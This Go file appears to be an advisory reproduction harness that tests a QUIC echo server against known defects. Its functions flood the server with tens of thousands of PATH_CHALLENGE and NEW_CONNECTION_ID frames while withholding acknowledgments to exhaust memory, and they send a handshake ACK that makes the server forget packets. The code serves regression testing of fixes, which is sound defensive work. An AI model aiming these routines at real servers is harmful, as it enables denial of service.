package advisory

import (
	"encoding/binary"
	"errors"
	"fmt"

	"github.com/matrixrun/matrixrun/matrix/suites/advisories/repro/attacker"
	"github.com/matrixrun/matrixrun/matrix/suites/advisories/repro/wire"
)

// dial dials the echo server.
func dial(t *trial) (*attacker.Conn, error) {
	server, err := t.address()
	if err != nil {
		return nil, err
	}
	return attacker.Dial(t.ctx, server, Protocol)
}

// control makes an honest exchange only.
func control(t *trial) error {
	c, err := dial(t)
	if err != nil {
		return err
	}
	defer c.Close()
	t.proof.Delivered = true
	return askEcho(t.ctx, c, 0)
}

// planted has the echo server panic in its own code.
func planted(t *trial) error {
	c, err := dial(t)
	if err != nil {
		return err
	}
	defer c.Close()
	_, err = c.Ask(t.ctx, 0, []byte(PanicRequest))
	return err
}

// ackBehindFinished ends the handshake with a packet that acknowledges Handshake packets
// behind the client's Finished, at which the server forgets those packets.
func ackBehindFinished(t *trial) error {
	server, err := t.address()
	if err != nil {
		return err
	}
	c, finish, err := attacker.Begin(t.ctx, server, Protocol)
	if err != nil {
		return err
	}
	defer c.Close()
	frames := append(wire.AppendCrypto(nil, 0, finish), c.Ack(wire.Handshake)...)
	if err := c.Send(wire.Handshake, frames); err != nil {
		return err
	}
	err = c.Await(t.ctx, func() bool { return c.Confirmed })
	t.proof.Delivered = err == nil
	return err
}

// flood sends many frames that the victim answers with a frame of another type each,
// while the victim can send next to nothing, because nothing that it has sent is
// acknowledged. Then it lets the victim send, and counts what the victim has kept. More
// than limit is the defect.
func flood(t *trial, frames [][]byte, answer uint64, limit int) error {
	c, err := dial(t)
	if err != nil {
		return err
	}
	defer c.Close()
	c.Silent = true
	t.proof.Sent = len(frames)
	if err = c.SendAll(t.ctx, frames); err == nil {
		t.proof.Delivered = true
		before := c.Counts[answer]
		err = drain(t, c, answer)
		kept := c.Counts[answer] - before
		t.proof.Kept = &kept
		if kept > limit {
			t.found = fmt.Sprintf("the server kept %d answers to %d frames in memory, and would keep any number", kept, len(frames))
			return nil
		}
	}
	var closed *attacker.CloseError
	if errors.As(err, &closed) {
		t.proof.Delivered = true
		return nil
	}
	return err
}

// drain lets the victim send what it has kept, until an exchange brings no answer any
// more.
func drain(t *trial, c *attacker.Conn, answer uint64) error {
	c.Silent = false
	for stream := uint64(0); ; stream += 4 {
		before := c.Counts[answer]
		if err := askEcho(t.ctx, c, stream); err != nil {
			return err
		}
		if c.Counts[answer] == before && stream > 8 {
			return nil
		}
	}
}

// How many frames an attack sends, and how many answers a victim may keep. Mended
// releases keep 256 answers to path challenges, and 16,384 frames of all kinds. What they
// send before their congestion window is full does not count.
const (
	manyChallenges, maxResponses = 20000, 10000
	manyIDs, maxRetired          = 60000, 30000
)

// challengePath sends PATH_CHALLENGE frames.
func challengePath(t *trial) error {
	var frames [][]byte
	for i := 0; i < manyChallenges; i++ {
		var data [8]byte
		binary.BigEndian.PutUint64(data[:], uint64(i))
		frames = append(frames, wire.AppendPath(nil, wire.TypePathChallenge, data[:]))
	}
	return flood(t, frames, wire.TypePathResponse, maxResponses)
}

// retireIDs sends connection IDs, each of which makes the victim retire the one before.
func retireIDs(t *trial) error {
	var frames [][]byte
	for i := uint64(1); i <= manyIDs; i++ {
		var id [8]byte
		binary.BigEndian.PutUint64(id[:], i)
		frames = append(frames, wire.AppendNewConnectionID(nil, i, i, id[:]))
	}
	return flood(t, frames, wire.TypeRetireConnectionID, maxRetired)
}
